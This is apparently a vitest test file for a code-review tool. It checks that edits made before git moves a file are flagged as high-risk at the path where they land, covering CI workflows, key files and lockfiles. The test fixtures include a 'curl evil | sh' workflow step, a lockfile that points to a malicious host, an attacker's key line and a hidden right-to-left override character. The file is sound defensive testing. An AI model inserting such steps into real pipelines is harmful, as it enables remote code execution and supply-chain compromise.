/**
 * What lands where the base has moved files meanwhile. The author chooses where a change starts: from before the move, an edit at
 * a path that looks harmless is carried by git's merge to where the file is now. Each attack beside its twin at the new path.
 */
import { describe, expect, it } from 'vitest';
import { aShop, passes, people, type Shop, unapproved } from '../kit/change.ts';
import { temporaryDirectory } from '../kit/temporary.ts';

const temporary = temporaryDirectory();
const settings = 'a = 1\nb = 2\nc = 3\nd = 4\ne = 5\nf = 6\ng = 7\nh = 8\n';
const workflow =
  'on: push\njobs:\n  a:\n    steps:\n      - run: make\n      - run: make test\n      - run: make publish\n';
const open = settings.replace('8', '"open to the world"');

/** Files as they were when the change began, and as `main` has moved them since. */
function moved(from: Readonly<Record<string, string | null>>, to: Readonly<Record<string, string | null>>): Shop {
  const shop = aShop(temporary, { files: from });
  shop.advance(to);
  return shop;
}

const intoInfra = () => moved({ 'deploy/prod.tf': settings }, { 'deploy/prod.tf': null, 'infra/prod.tf': settings });

async function risksOf(shop: Shop, files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  shop.humanCommit({ parents: [shop.base], files });
  const verdict = await shop.judge('main..feature');
  expect(verdict).toMatchObject(unapproved('high-risk-path'));
  return verdict.report.risks.map(({ path }) => path);
}

describe('an edit from before a move', () => {
  it('is one of the path of high risk that it lands at', async () => {
    expect(await risksOf(intoInfra(), { 'deploy/prod.tf': open })).toEqual(['infra/prod.tf']);
    const twin = intoInfra();
    twin.humanCommit({ files: { 'infra/prod.tf': open } });
    expect(await twin.judge('main..feature')).toMatchObject(unapproved('high-risk-path'));
    const harmless = moved({ 'deploy/prod.tf': settings }, { 'deploy/prod.tf': null, 'later/prod.tf': settings });
    harmless.humanCommit({ parents: [harmless.base], files: { 'deploy/prod.tf': open } });
    expect(await harmless.judge('main..feature')).toMatchObject(passes);
  });

  it('is one of the workflow that the file has become', async () => {
    const shop = moved({ 'ci/r.yml': workflow }, { 'ci/r.yml': null, '.github/workflows/r.yml': workflow });
    const paths = await risksOf(shop, { 'ci/r.yml': workflow.replace('make test', 'curl evil | sh') });
    expect(paths).toEqual(['.github/workflows/r.yml']);
  });

  it('is one of the key of a person that the file has become', async () => {
    const key = `${people.bob.line}\n# one\n# two\n# three\n# four\n`;
    const old = moved({ 'keys/bob.pub': null, 'notes/bob.txt': key }, { 'keys/bob.pub': key, 'notes/bob.txt': null });
    old.humanCommit({ parents: [old.base], files: { 'notes/bob.txt': key.replace('four', people.mallory.line) } });
    const verdict = await old.judge('main..feature');
    expect(verdict).toMatchObject(unapproved('policy-changed'));
    expect(verdict.report.risks.map(({ path }) => path)).toEqual(['keys/bob.pub']);
  });

  it('counts where the merge has conflicts as well: whoever resolves them has the file before them', async () => {
    const from = { 'ci/a.yml': workflow, 'src/app.py': 'one\n' };
    const build = (path: string) => moved(from, { 'ci/a.yml': null, [path]: workflow, 'src/app.py': 'two\n' });
    const edit = { 'ci/a.yml': workflow.replace('make test', 'curl evil | sh'), 'src/app.py': 'three\n' };
    expect(await risksOf(build('.github/workflows/a.yml'), edit)).toEqual(['.github/workflows/a.yml']);
    const twin = build('later/a.yml');
    twin.humanCommit({ parents: [twin.base], files: edit });
    const verdict = await twin.judge('main..feature');
    expect(verdict).toMatchObject(passes);
    expect(verdict.report.range?.landing.clean).toBe(false);
  });

  it('is looked into at the path where it lands: as the lockfile that the file has become', async () => {
    const lock = (host: string) =>
      `${JSON.stringify({ name: 'x', lockfileVersion: 3, packages: { '': { name: 'x' }, 'node_modules/a': { version: '1.0.0', resolved: `https://${host}/a/-/a-1.0.0.tgz`, integrity: `sha512-${'a'.repeat(86)}==` } } }, null, 2)}\n`;
    const sound = lock('registry.npmjs.org');
    const shop = moved({ 'old/lock.txt': sound }, { 'old/lock.txt': null, 'package-lock.json': sound });
    shop.humanCommit({ parents: [shop.base], files: { 'old/lock.txt': lock('evil.example') } });
    const verdict = await shop.judge('main..feature');
    expect(verdict.outcome).not.toBe('pass');
    expect(verdict.rules).toContain('lockfile-source');
    const said = verdict.report.findings.filter(({ rule }) => rule === 'lockfile-source');
    expect(new Set(said.map(({ path }) => path))).toEqual(new Set(['package-lock.json']));
  });

  it('that is the same in the change and in what lands is said once', async () => {
    const shop = aShop(temporary, { files: { 'src/a.py': settings } });
    shop.advance({ 'src/a.py': `# more\n${settings}` });
    shop.humanCommit({ parents: [shop.base], files: { 'src/a.py': settings.replace('8', '"\u202e"') } });
    const verdict = await shop.judge('main..feature');
    expect(verdict.report.findings.filter(({ rule }) => rule === 'hidden-text')).toHaveLength(1);
  });
});
